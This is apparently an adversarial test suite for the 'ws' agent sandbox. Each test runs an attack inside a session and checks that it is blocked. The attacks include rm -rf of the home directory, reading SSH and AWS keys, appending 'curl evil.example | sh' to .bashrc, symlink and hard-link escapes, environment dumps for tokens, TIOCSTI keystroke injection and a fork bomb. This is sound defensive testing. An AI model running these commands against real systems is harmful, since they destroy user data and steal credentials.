//! Adversarial tests: what an agent would try, run inside `ws session start`
//! with the default profile. Each first proves, in the same session, that the
//! command ran and could do what it is allowed to (the positive control), so
//! no denial can pass because nothing ran.

use crate::harness::*;

struct Fixture {
    env: Env,
    ws: std::path::PathBuf,
}

fn fixture() -> Fixture {
    let env = Env::protected();
    let ws = env.dir("proj");
    write(ws.join("mine.txt"), "workspace file\n");
    write(env.home.join(".ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----SECRET-SSH\n");
    write(env.home.join(".aws/credentials"), "[default]\naws_secret_access_key=SECRET-AWS\n");
    write(env.home.join(".bashrc"), "# the user's bashrc\n");
    Fixture { env, ws }
}

/// Runs `script` in a session; returns (stdout+stderr of the command, ws's exit code).
fn attack(f: &Fixture, script: &str) -> Out {
    let full = format!("cat mine.txt && echo CONTROL-OK > control.txt; {script}");
    let mut out = f.env.session(&f.ws, &full);
    assert!(out.stdout.contains("workspace file"), "positive control failed: the command did not run\n{out:?}");
    // The command's own stderr is inherited; judge both streams together.
    out.stdout.push_str(&out.stderr);
    assert_eq!(
        std::fs::read_to_string(f.ws.join("control.txt")).unwrap(),
        "CONTROL-OK\n",
        "positive control: workspace not writable"
    );
    out
}

#[test]
fn rm_rf_home_changes_nothing_outside_the_workspace() {
    let f = fixture();
    // ws keeps its store under ~/.local/share/ws: everything else must stay.
    let not_store = |p: &[u8]| p.starts_with(b".local");
    let home_before = capture(&f.env.home, &not_store);
    let out = attack(&f, "rm -rf \"$HOME\" 2>&1; rm -rf \"$HOME\"/* \"$HOME\"/.[!.]* 2>&1; true");
    assert!(out.stdout.contains("Permission denied"), "{out:?}");
    assert_same_tree(&home_before, &capture(&f.env.home, &not_store));
    assert!(f.env.home.join(".local/share/ws").is_dir(), "the snapshot store itself was removed");
}

#[test]
fn rm_rf_of_the_workspace_comes_back_with_rollback() {
    let f = fixture();
    let ws_before = capture(&f.ws, &no_skip);
    f.env.session(&f.ws, "rm -rf ./* ./.[!.]*").ok();
    assert!(!f.ws.join("mine.txt").exists(), "positive control: the workspace is writable");
    f.env.ws(&f.ws, &["rollback"]).ok();
    assert_same_tree(&ws_before, &capture(&f.ws, &no_skip));
}

#[test]
fn secrets_in_home_cannot_be_read() {
    let f = fixture();
    let out = attack(&f, "cat \"$HOME/.ssh/id_ed25519\" \"$HOME/.aws/credentials\" 2>&1; ls \"$HOME\" 2>&1; true");
    assert!(!out.stdout.contains("SECRET-SSH") && !out.stdout.contains("SECRET-AWS"), "{out:?}");
    assert!(out.stdout.matches("Permission denied").count() >= 3, "{out:?}");
}

#[test]
fn shell_startup_files_cannot_be_written() {
    let f = fixture();
    let out = attack(&f, "echo 'curl evil.example | sh' >> \"$HOME/.bashrc\" 2>&1; true");
    assert!(out.stdout.contains("Permission denied"), "{out:?}");
    assert_eq!(std::fs::read_to_string(f.env.home.join(".bashrc")).unwrap(), "# the user's bashrc\n");
}

#[test]
fn symlinks_in_the_workspace_do_not_lead_outside() {
    let f = fixture();
    std::os::unix::fs::symlink(f.env.home.join(".ssh/id_ed25519"), f.ws.join("key")).unwrap();
    std::os::unix::fs::symlink(f.env.home.join(".bashrc"), f.ws.join("rc")).unwrap();
    std::os::unix::fs::symlink("mine.txt", f.ws.join("inside")).unwrap();
    let out = attack(&f, "cat inside; cat key 2>&1; echo pwned >> rc 2>&1; true");
    assert_eq!(out.stdout.matches("workspace file").count(), 2, "a symlink inside the workspace must work: {out:?}");
    assert!(!out.stdout.contains("SECRET-SSH"), "{out:?}");
    assert_eq!(std::fs::read_to_string(f.env.home.join(".bashrc")).unwrap(), "# the user's bashrc\n");
}

#[test]
fn secret_looking_variables_never_reach_the_command() {
    let f = fixture();
    let mut c = f.env.command(
        &f.ws,
        &["session", "start", "--", "sh", "-c", "cat mine.txt; env; cat /proc/self/environ | tr '\\0' '\\n'"],
    );
    c.env("GITHUB_TOKEN", "ghp_SECRETVALUE1")
        .env("AWS_SECRET_ACCESS_KEY", "SECRETVALUE2")
        .env("OPENAI_API_KEY", "SECRETVALUE3");
    c.env("MY_SERVICE_PASSWORD", "SECRETVALUE4").env("TERM", "xterm-test");
    let out = f.env.run(c).ok();
    assert!(out.stdout.contains("workspace file") && out.stdout.contains("TERM=xterm-test"), "control: {out:?}");
    assert!(!out.stdout.contains("SECRETVALUE"), "a secret reached the sandbox: {}", out.stdout);
}

/// Landlock scopes signals to the sandbox (ABI 6); the session's own PID
/// namespace hides every process outside it from `ps` and /proc (Landlock
/// alone does not stop reading /proc/PID/environ on this kernel: measured).
#[test]
fn processes_outside_are_invisible_and_cannot_be_signalled() {
    let f = fixture();
    let mut outside =
        std::process::Command::new("sleep").arg("30").env("OUTSIDE_MARKER", "SECRET-ENVIRON").spawn().unwrap();
    let pid = outside.id();
    let script = format!(
        "sleep 30 & inner=$!; kill $inner && echo INNER-KILLED; \
         cat /proc/self/environ >/dev/null && echo SELF-ENVIRON-OK; \
         kill {pid} 2>&1 || echo OUTSIDE-KILL-FAILED; \
         cat /proc/{pid}/environ 2>&1 || echo OUTSIDE-ENVIRON-FAILED; \
         ps -eo pid= | tr -d ' ' | grep -cx {pid} | sed 's/^/visible=/'; ps -e | wc -l | sed 's/^/procs=/'"
    );
    let out = attack(&f, &script);
    assert!(out.stdout.contains("INNER-KILLED") && out.stdout.contains("SELF-ENVIRON-OK"), "control: {out:?}");
    assert!(out.stdout.contains("OUTSIDE-KILL-FAILED") && out.stdout.contains("OUTSIDE-ENVIRON-FAILED"), "{out:?}");
    assert!(!out.stdout.contains("SECRET-ENVIRON"), "read another process's environment: {out:?}");
    assert!(out.stdout.contains("visible=0"), "ps shows the outside process: {out:?}");
    let procs: usize =
        out.stdout.lines().find_map(|l| l.strip_prefix("procs=")).and_then(|n| n.trim().parse().ok()).unwrap();
    assert!(procs < 10, "ps shows {procs} processes: more than the session's own");
    assert!(outside.try_wait().unwrap().is_none(), "the outside process was killed");
    outside.kill().unwrap();
    outside.wait().unwrap();
}

/// keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0) through perl's
/// syscall(): allowed outside (control), EPERM inside.
#[cfg(target_arch = "x86_64")]
#[test]
fn the_kernel_keyring_is_out_of_reach() {
    let f = fixture();
    let probe = "perl -e '$r = syscall(250, 0, -3, 0); print \"keyctl=$r errno=\", $!+0, \"\\n\"'";
    let outside = std::process::Command::new("sh").args(["-c", probe]).output().unwrap();
    let outside = String::from_utf8_lossy(&outside.stdout);
    assert!(!outside.contains("errno=1\n"), "control: keyctl is already denied outside: {outside}");
    let out = attack(&f, probe);
    assert!(out.stdout.contains("keyctl=-1 errno=1\n"), "keyctl was not denied with EPERM: {out:?}");
}

/// TIOCSTI pushes keystrokes into the terminal; under a real pseudo-terminal
/// it works outside (control) and fails inside.
#[cfg(target_arch = "x86_64")]
#[test]
fn keystrokes_cannot_be_injected_into_the_terminal() {
    let f = fixture();
    let probe = "perl -e '$c = \"x\"; $r = ioctl(STDIN, 0x5412, $c); print \"tiocsti=\", ($r ? \"ok\" : \"failed errno=\" . ($!+0)), \"\\n\"'";
    let in_pty = |cmd: String| {
        let mut c = std::process::Command::new("script");
        c.args(["-qec", &cmd, "/dev/null"]).current_dir(&f.ws).env("HOME", &f.env.home).env("PATH", "/usr/bin:/bin");
        let o = c.output().unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let outside = in_pty(probe.to_owned());
    assert!(outside.contains("tiocsti=ok"), "control: TIOCSTI does not work outside on this machine: {outside}");
    let ws_bin = env!("CARGO_BIN_EXE_ws");
    let inside = in_pty(format!("{ws_bin} session start -- sh -c {}", shell_quote(&format!("cat mine.txt; {probe}"))));
    assert!(inside.contains("workspace file"), "positive control: {inside}");
    assert!(inside.contains("tiocsti=failed errno=1"), "TIOCSTI was not denied: {inside}");
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn a_profile_that_cannot_be_enforced_is_refused_not_weakened() {
    let f = fixture();
    let bad = f.env.dir("profiles").join("bad.toml");
    write(&bad, "extends = \"default\"\n[enforce]\nrequire = [\"landlock\", \"apparmor\"]\n");
    let out = f.env.ws(&f.ws, &["session", "start", "--profile", bad.to_str().unwrap(), "--", "touch", "ran"]);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("unknown layer `apparmor`") && out.stderr.contains(":3:"), "{}", out.stderr);
    assert!(!f.ws.join("ran").exists());
    let check = f.env.ws(&f.ws, &["profile", "check", bad.to_str().unwrap()]);
    assert_eq!(check.code, 2);
    assert!(check.stdout.contains("bad.toml:3: enforce.require: unknown layer `apparmor`"), "{}", check.stdout);
}

#[test]
fn why_names_the_deciding_rule() {
    let f = fixture();
    let allowed = f.env.ws(&f.ws, &["why", "mine.txt", "--op", "write"]).ok();
    assert!(
        allowed.stdout.starts_with("allowed: write") && allowed.stdout.contains("filesystem.write"),
        "{}",
        allowed.stdout
    );
    let key = f.env.home.join(".ssh/id_ed25519");
    let denied = f.env.ws(&f.ws, &["why", key.to_str().unwrap()]);
    assert_eq!(denied.code, 1);
    assert!(denied.stdout.starts_with("denied: read"), "{}", denied.stdout);
}

/// An interactive agent keeps the terminal: under a real pseudo-terminal
/// (`script`) the command sees a tty with a size, can switch it to raw mode,
/// gets SIGWINCH when the window is resized, and Ctrl-C typed at the terminal
/// reaches it while ws survives to record the session and passes the status
/// (130) on.
#[test]
fn the_terminal_works_and_ctrl_c_reaches_the_command() {
    use std::io::{BufRead, BufReader, Write};
    let f = fixture();
    let inner = "test -t 0 && test -t 1 && echo TTY-OK; stty size | sed 's/^/size=/'; \
                 stty raw -echo && stty -a | grep -q -- '-icanon' && echo RAW-OK; stty sane; \
                 trap 'echo WINCH-OK' WINCH; stty cols 100; sleep 0.3; stty size | sed 's/^/resized=/'; \
                 echo written > agent.txt; echo READY; exec sleep 30";
    let ws_bin = env!("CARGO_BIN_EXE_ws");
    let cmd = format!("stty cols 120 rows 40; exec {ws_bin} session start -- sh -c {}", shell_quote(inner));
    let mut child = std::process::Command::new("script")
        .args(["-qefc", &cmd, "/dev/null"])
        .current_dir(&f.ws)
        .env_clear()
        .env("HOME", &f.env.home)
        .env("PATH", "/usr/bin:/bin")
        .env("TERM", "xterm-256color")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut seen = Vec::new();
    for line in lines.by_ref() {
        let line = line.unwrap();
        seen.push(line.clone());
        if line.contains("READY") {
            break;
        }
    }
    let text = seen.join("\n");
    assert!(text.contains("TTY-OK") && text.contains("size=40 120") && text.contains("RAW-OK"), "{text}");
    // A resize reaches the command as SIGWINCH, with the new size.
    assert!(text.contains("WINCH-OK") && text.contains("resized=40 100"), "{text}");
    stdin.write_all(b"\x03").unwrap();
    stdin.flush().unwrap();
    let rest: Vec<String> = lines.map_while(Result::ok).collect();
    let status = child.wait().unwrap();
    let rest = rest.join("\n");
    // `script -e` exits with ws's status: the command's, passed through.
    assert_eq!(status.code(), Some(130), "Ctrl-C did not end the command with status 130: {rest}");
    assert!(rest.contains("ws: session"), "ws did not survive Ctrl-C to summarize: {rest}");
    let ns = f.env.ws(&f.ws, &["diff", "--name-status"]).ok();
    assert!(ns.stdout.contains("A\tagent.txt"), "the session was not recorded: {ns:?}");
}

/// Abstract unix sockets (D-Bus, X11, agents) are out of reach: the session's
/// network namespace has its own abstract namespace (ECONNREFUSED), and
/// without one Landlock's scope (ABI 6) refuses with EPERM; the same connect
/// from outside works (control).
#[test]
fn abstract_unix_sockets_outside_are_unreachable() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener, UnixStream};
    let f = fixture();
    let name = format!("ws-e2e-{}", std::process::id());
    let addr = SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = UnixListener::bind_addr(&addr).unwrap();
    UnixStream::connect_addr(&addr).expect("control: the listener accepts connections from outside");
    let probe = format!(
        "perl -MSocket -e 'socket(my $s, PF_UNIX, SOCK_STREAM, 0) or die; \
         if (connect($s, pack_sockaddr_un(\"\\0{name}\"))) {{ print \"abstract=connected\\n\" }} else {{ print \"abstract=failed errno=\", $!+0, \"\\n\" }}'"
    );
    let out = attack(&f, &probe);
    assert!(
        out.stdout.contains("abstract=failed errno=1\n") || out.stdout.contains("abstract=failed errno=111\n"),
        "connect to an outside abstract socket was not denied: {out:?}"
    );
    drop(listener);
}

/// The agent cannot make a hard link into the workspace to a file it may not
/// read (Landlock's refer rules), nor read one through a symlink chain.
#[test]
fn hard_links_to_files_outside_cannot_be_made() {
    let f = fixture();
    let out = attack(
        &f,
        "ln \"$HOME/.ssh/id_ed25519\" stolen 2>&1; ln mine.txt twin && echo LINK-INSIDE-OK; cat stolen 2>&1; true",
    );
    assert!(out.stdout.contains("LINK-INSIDE-OK"), "control: hard links inside the workspace work: {out:?}");
    assert!(!f.ws.join("stolen").exists() && !out.stdout.contains("SECRET-SSH"), "{out:?}");
}

/// A profile's [resources] are enforced with cgroups: a fork bomb stops at
/// pids_max, an allocation over memory_max is killed; below them, the same
/// work succeeds (control).
#[test]
fn resource_limits_stop_fork_bombs_and_memory_hogs() {
    let f = fixture();
    let limited = f.env.dir("profiles").join("limited.toml");
    write(&limited, "extends = \"default\"\n[resources]\npids_max = 24\nmemory_max = \"96M\"\n");
    let run = |script: &str| {
        f.env.ws(&f.ws, &["session", "start", "--profile", limited.to_str().unwrap(), "--", "sh", "-c", script])
    };
    let few = run("for i in 1 2 3 4 5; do sleep 2 & done; echo STARTED-FEW; wait");
    assert!(few.stdout.contains("STARTED-FEW") && few.code == 0, "control: {few:?}");
    let bomb = run(
        "n=0; while [ $n -lt 60 ]; do sleep 5 & n=$((n+1)); done 2>&1; echo LOOP-DONE; kill $(jobs -p) 2>/dev/null; true",
    );
    assert!(
        bomb.stdout.contains("fork") || bomb.stderr.contains("fork"),
        "60 processes started under pids_max = 24: {bomb:?}"
    );
    let small = run("perl -e '$x = \"a\" x (24*1024*1024); print \"ALLOCATED\\n\"'");
    assert!(small.stdout.contains("ALLOCATED"), "control: {small:?}");
    let hog = run("perl -e '$x = \"a\" x (400*1024*1024); print \"ALLOCATED\\n\"'");
    assert!(!hog.stdout.contains("ALLOCATED") && hog.code != 0, "400 MiB allocated under memory_max = 96M: {hog:?}");
}
